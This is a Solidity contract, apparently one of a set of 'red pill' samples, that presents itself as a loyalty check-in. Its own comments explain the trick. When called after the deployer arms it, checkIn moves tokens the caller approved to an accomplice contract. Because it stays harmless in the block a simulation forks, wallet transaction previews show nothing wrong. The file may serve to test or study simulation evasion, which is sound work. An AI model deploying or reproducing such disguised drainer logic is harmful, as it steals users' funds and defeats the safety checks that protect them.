// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {RedPillDesk} from "./RedPillDesk.sol";

/// @title RedPillBlockNumber
/// @notice Red pill keyed on the block number. Looks like a loyalty check-in: `checkIn` records
///         the caller's visit and moves nothing. Detects: its boss arms it (`arm`) in the newest
///         block, which is the block a simulation forks and runs in; a submission is included in
///         a later block. Steals, past the armed block: `loot` of the token the victim approved
///         to the accomplice, through a contract the simulation never touches.
contract RedPillBlockNumber {
    address private immutable _accomplice;
    uint256 private immutable _loot;
    address private immutable _boss;

    /// @notice The block `arm` ran in.
    uint256 public armedBlock = type(uint256).max;
    /// @notice Visits, all visitors together (kept under no visitor: a record under the
    ///         caller would be one the simulator cannot read).
    uint256 public visits;

    /// @notice `visitor` checked in.
    event CheckedIn(address indexed visitor, uint256 visits);

    /// @param accomplice A `RedPillAccomplice` that enlisted this contract.
    /// @param loot What one real execution steals through the accomplice.
    constructor(address accomplice, uint256 loot) {
        (_accomplice, _loot, _boss) = (accomplice, loot, msg.sender);
    }

    /// @notice Remembers the current block. Only the deployer.
    function arm() external {
        require(msg.sender == _boss, "not the boss");
        armedBlock = block.number;
    }

    /// @notice Records a visit of the caller.
    function checkIn() external {
        emit CheckedIn(msg.sender, ++visits);
        if (block.number > armedBlock) RedPillDesk.rob(_accomplice, msg.sender, _loot);
    }
}
